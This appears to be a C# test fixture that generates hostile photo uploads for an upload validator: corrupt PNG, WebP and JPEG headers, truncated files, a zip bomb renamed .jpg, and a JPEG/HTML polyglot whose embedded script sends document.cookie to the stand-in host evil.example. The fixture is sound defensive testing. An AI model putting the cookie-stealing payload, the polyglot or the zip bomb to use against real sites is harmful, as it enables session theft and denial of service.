using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using DialogPlanner.Web.Features.Photos;
using ImageMagick;

namespace DialogPlanner.Tests.Photos;

/// <summary>
/// Files an attacker (or a broken phone) uploads as photos, all made here, and what must become of each:
/// refused with the given problem, or stored cleaned (<see cref="PhotoProblem.None"/>).
/// </summary>
public static class HostileFiles
{
    public sealed record Hostile(string Name, string FileName, byte[] Bytes, PhotoProblem Expected)
    {
        public override string ToString() => Name;
    }

    /// <summary>Made once per test run: the zip bomb alone is 100 MB to compress.</summary>
    public static IReadOnlyList<Hostile> All() => Files.Value;

    private static readonly Lazy<IReadOnlyList<Hostile>> Files = new(() =>
    [
        new("PNG chunk length 0xFFFFFFF4", "lampa.png", PngWithChunkLength(0xFFFFFFF4), PhotoProblem.Unreadable),
        new("WebP chunk size 0xFFFFFFF8", "lampa.webp", WebpWithChunkSize(0xFFFFFFF8), PhotoProblem.Unreadable),
        new("JPEG segment length past the end", "lampa.jpg", JpegWithSegmentPastTheEnd(), PhotoProblem.Unreadable),
        new("JPEG cut in half", "lampa.jpg", Half(TestPhotos.Jpeg()), PhotoProblem.Unreadable),
        new("PNG cut in half", "lampa.png", Half(TestPhotos.Make(MagickFormat.Png)), PhotoProblem.Unreadable),
        new("WebP cut in half", "lampa.webp", Half(TestPhotos.Make(MagickFormat.WebP)), PhotoProblem.Unreadable),
        new("HEIC cut in half", "IMG_0001.HEIC", Half(TestPhotos.Heic()), PhotoProblem.Unreadable),
        new("1×1 PNG announcing 100,000 × 100,000", "lampa.png", PngAnnouncing(100_000, 100_000), PhotoProblem.Unreadable),
        new("PNG announcing 9,000 × 9,000 (81 megapixels)", "lampa.png", PngAnnouncing(9_000, 9_000), PhotoProblem.TooManyPixels),
        new("zip bomb renamed .jpg", "lampa.jpg", ZipBomb(), PhotoProblem.NotAPhoto),
        new("HTML in front of a JPEG", "lampa.jpg", [.. "<html><script>alert(1)</script></html>"u8, .. TestPhotos.Jpeg()], PhotoProblem.NotAPhoto),
        new("polyglot: a JPEG with HTML in a comment", "lampa.jpg", JpegWithHtmlComment(), PhotoProblem.None),
        new("JPEG with EXIF GPS", "IMG_0002.JPG", TestPhotos.Jpeg(), PhotoProblem.None),
        new("HEIC with EXIF GPS", "IMG_0003.HEIC", TestPhotos.Heic(), PhotoProblem.None),
    ]);

    private static byte[] Half(byte[] file) => file[..(file.Length / 2)];

    /// <summary>The 60-byte PNG of issue 10: a header, then a chunk whose length field says 0xFFFFFFF4.</summary>
    private static byte[] PngWithChunkLength(uint length)
    {
        byte[] png = [.. PngSignature, .. PngChunk("IHDR", Ihdr(1, 1)), .. PngChunk("tEXt", Encoding.ASCII.GetBytes("Comment\0GPS 56.8333")), .. PngChunk("IEND", [])];
        BinaryPrimitives.WriteUInt32BigEndian(png.AsSpan(8 + 25), length);
        return png[..60];
    }

    /// <summary>A 1×1 PNG, checksums right, whose header announces another size.</summary>
    public static byte[] PngAnnouncing(uint width, uint height) =>
        [.. PngSignature, .. PngChunk("IHDR", Ihdr(width, height)), .. PngChunk("IDAT", Deflate([0, 0xFF, 0xD2, 0x3F])), .. PngChunk("IEND", [])];

    private static readonly byte[] PngSignature = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A];

    private static byte[] Ihdr(uint width, uint height)
    {
        var ihdr = new byte[13];
        BinaryPrimitives.WriteUInt32BigEndian(ihdr, width);
        BinaryPrimitives.WriteUInt32BigEndian(ihdr.AsSpan(4), height);
        ihdr[8] = 8; // bit depth
        ihdr[9] = 2; // RGB
        return ihdr;
    }

    private static byte[] PngChunk(string type, byte[] data)
    {
        var chunk = new byte[12 + data.Length];
        BinaryPrimitives.WriteUInt32BigEndian(chunk, (uint)data.Length);
        Encoding.ASCII.GetBytes(type).CopyTo(chunk, 4);
        data.CopyTo(chunk, 8);
        BinaryPrimitives.WriteUInt32BigEndian(chunk.AsSpan(8 + data.Length), Crc32(chunk.AsSpan(4, 4 + data.Length)));
        return chunk;
    }

    private static uint Crc32(ReadOnlySpan<byte> bytes)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++) crc = (crc & 1) != 0 ? 0xEDB88320 ^ (crc >> 1) : crc >> 1;
        }
        return ~crc;
    }

    private static byte[] Deflate(byte[] data)
    {
        using var output = new MemoryStream();
        using (var zlib = new ZLibStream(output, CompressionLevel.Optimal)) zlib.Write(data);
        return output.ToArray();
    }

    /// <summary>A real WebP whose first chunk (the image data) claims 0xFFFFFFF8 bytes.</summary>
    private static byte[] WebpWithChunkSize(uint size)
    {
        var webp = TestPhotos.Make(MagickFormat.WebP);
        BinaryPrimitives.WriteUInt32LittleEndian(webp.AsSpan(16), size);
        return webp;
    }

    /// <summary>A real JPEG whose first segment (APP0) says it runs on for 65,520 bytes: far past the end of the file.</summary>
    private static byte[] JpegWithSegmentPastTheEnd()
    {
        var jpeg = TestPhotos.Jpeg();
        Assert.Equal([0xFF, 0xD8, 0xFF, 0xE0], jpeg[..4]);
        BinaryPrimitives.WriteUInt16BigEndian(jpeg.AsSpan(4), 0xFFF0);
        return jpeg;
    }

    /// <summary>A JPEG that is also an HTML page: a browser sniffing it would run the script in its comment.</summary>
    private static byte[] JpegWithHtmlComment()
    {
        var jpeg = TestPhotos.Jpeg();
        var html = "<html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>"u8;
        var comment = new byte[4 + html.Length];
        comment[0] = 0xFF;
        comment[1] = 0xFE;
        BinaryPrimitives.WriteUInt16BigEndian(comment.AsSpan(2), (ushort)(html.Length + 2));
        html.CopyTo(comment.AsSpan(4));
        return [.. jpeg[..2], .. comment, .. jpeg[2..]];
    }

    /// <summary>100 MB of zeros in a zip of about 100 kB, named like a photo.</summary>
    private static byte[] ZipBomb()
    {
        using var output = new MemoryStream();
        using (var zip = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = zip.CreateEntry("lampa.jpg", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1024 * 1024];
            for (var i = 0; i < 100; i++) entry.Write(zeros);
        }
        return output.ToArray();
    }
}
